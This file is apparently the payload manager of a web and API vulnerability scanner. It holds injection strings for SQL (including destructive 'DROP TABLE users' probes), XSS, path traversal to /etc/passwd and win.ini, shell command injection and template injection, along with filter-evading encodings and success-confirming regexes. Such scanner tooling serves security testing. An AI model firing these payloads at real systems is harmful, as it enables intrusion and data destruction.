"""
Payload manager: attack templates per vulnerability class, and encodings.
"""

import base64
import html
import json
from typing import Dict, List, NamedTuple, Tuple
from urllib.parse import quote, quote_plus

from .utils import setup_logging

logger = setup_logging("payload_manager")


class PayloadTemplate(NamedTuple):
    """Attack string plus the patterns that confirm it worked."""

    attack: str
    signatures: Tuple[str, ...] = ()
    technique: str = "generic"


# Type contexts a template can be valid for
STRING = "string"
NUMERIC = "numeric"
BOOLEAN = "boolean"

_PASSWD = r"root:[^:\n]*:0:0:"
_WIN_INI = r"\[(fonts|extensions)\]"
_ID_OUTPUT = r"uid=\d+\([^)]*\)\s+gid=\d+"


class PayloadManager:
    """
    Built-in attack templates keyed by vulnerability class and type context.

    Template order is fixed so that payload generation is reproducible.
    Signatures are regular expressions specific to one template; class-wide
    error fingerprints live in ResponseAnalyzer.
    """

    # Built-in encoding functions
    ENCODINGS = {
        "none": lambda p: p,
        "url": lambda p: quote(p, safe=""),
        "url_plus": lambda p: quote_plus(p),
        "double_url": lambda p: quote(quote(p, safe=""), safe=""),
        "base64": lambda p: base64.b64encode(p.encode()).decode(),
        "html_entity": lambda p: html.escape(p),
        "unicode_escape": lambda p: "".join(f"\\u{ord(c):04x}" for c in p),
        "hex_url": lambda p: "".join(f"%{ord(c):02x}" for c in p),
        "json": lambda p: json.dumps(p)[1:-1],  # Strip quotes
        "upper": lambda p: p.upper(),
        "spaces_to_comments": lambda p: p.replace(" ", "/**/"),
    }

    TEMPLATES: Dict[str, Dict[str, List[PayloadTemplate]]] = {
        "injection": {
            STRING: [
                PayloadTemplate("'", technique="error"),
                PayloadTemplate("' OR '1'='1' --", technique="boolean"),
                PayloadTemplate("'; DROP TABLE users; --", technique="stacked"),
                PayloadTemplate("' AND SLEEP(5)--", technique="time"),
                PayloadTemplate("'; WAITFOR DELAY '0:0:5'--", technique="time"),
                PayloadTemplate("' UNION SELECT NULL,NULL--", technique="union"),
                PayloadTemplate('" OR "1"="1', technique="boolean"),
            ],
            NUMERIC: [
                PayloadTemplate("1 OR 1=1", technique="boolean"),
                PayloadTemplate("1'", technique="error"),
                PayloadTemplate("1; DROP TABLE users", technique="stacked"),
                PayloadTemplate("1 AND SLEEP(5)", technique="time"),
                PayloadTemplate("-1 UNION SELECT NULL--", technique="union"),
            ],
        },
        "xss": {
            STRING: [
                PayloadTemplate("<script>alert(1)</script>", (r"<script>alert\(1\)</script>",), "html"),
                PayloadTemplate('"><img src=x onerror=alert(1)>', (r"<img src=x onerror=alert\(1\)>",), "attribute"),
                PayloadTemplate("<svg onload=alert(1)>", (r"<svg onload=alert\(1\)>",), "html"),
                PayloadTemplate("'-alert(1)-'", (r"'-alert\(1\)-'",), "javascript"),
            ],
        },
        "path_traversal": {
            STRING: [
                PayloadTemplate("../../../../etc/passwd", (_PASSWD,), "unix"),
                PayloadTemplate("..%2f..%2f..%2f..%2fetc%2fpasswd", (_PASSWD,), "encoded"),
                PayloadTemplate("..\\..\\..\\..\\windows\\win.ini", (_WIN_INI,), "windows"),
                PayloadTemplate("/etc/passwd", (_PASSWD,), "absolute"),
            ],
        },
        "command_injection": {
            STRING: [
                PayloadTemplate("; id", (_ID_OUTPUT,), "separator"),
                PayloadTemplate("| id", (_ID_OUTPUT,), "pipe"),
                PayloadTemplate("$(id)", (_ID_OUTPUT,), "substitution"),
                PayloadTemplate("; sleep 5", technique="time"),
                PayloadTemplate("`id`", (_ID_OUTPUT,), "backtick"),
            ],
        },
        "ssti": {
            STRING: [
                PayloadTemplate("{{7*7}}", (r"(?<![\d*])49(?!\d)",), "jinja"),
                PayloadTemplate("${7*7}", (r"(?<![\d*])49(?!\d)",), "el"),
                PayloadTemplate("{{7*'7'}}", (r"7777777",), "jinja"),
                PayloadTemplate("<%= 7*7 %>", (r"(?<![\d*])49(?!\d)",), "erb"),
            ],
        },
        "type_confusion": {
            NUMERIC: [
                PayloadTemplate("abc", technique="string_in_number"),
                PayloadTemplate("99999999999999999999999999", technique="overflow"),
                PayloadTemplate("-1", technique="negative"),
                PayloadTemplate("null", technique="null"),
                PayloadTemplate("1.5e308", technique="float"),
            ],
            BOOLEAN: [
                PayloadTemplate("yes", technique="string_in_boolean"),
                PayloadTemplate("2", technique="number_in_boolean"),
                PayloadTemplate("null", technique="null"),
            ],
        },
    }

    # Benign values per declared type, used for baselines and filler
    BENIGN_VALUES = {
        "string": "specprobe",
        "integer": "1",
        "number": "1.0",
        "boolean": "true",
        "array": "specprobe",
        "object": "specprobe",
    }

    def get_templates(self, vuln_class: str, context: str) -> List[PayloadTemplate]:
        """Templates for one class in one type context, in fixed order."""
        return list(self.TEMPLATES.get(vuln_class, {}).get(context, []))

    def benign_value(self, param_type: str) -> str:
        return self.BENIGN_VALUES.get(param_type, "specprobe")

    def encode(self, payload: str, encoding: str) -> str:
        """
        Apply encoding to a payload.

        Args:
            payload: Raw payload
            encoding: Encoding name

        Returns:
            Encoded payload
        """
        if encoding not in self.ENCODINGS:
            raise ValueError(f"Unknown encoding: {encoding}")

        return self.ENCODINGS[encoding](payload)

    @classmethod
    def list_encodings(cls) -> List[str]:
        """List all available encodings."""
        return list(cls.ENCODINGS.keys())

    def list_classes(self) -> List[str]:
        return list(self.TEMPLATES)
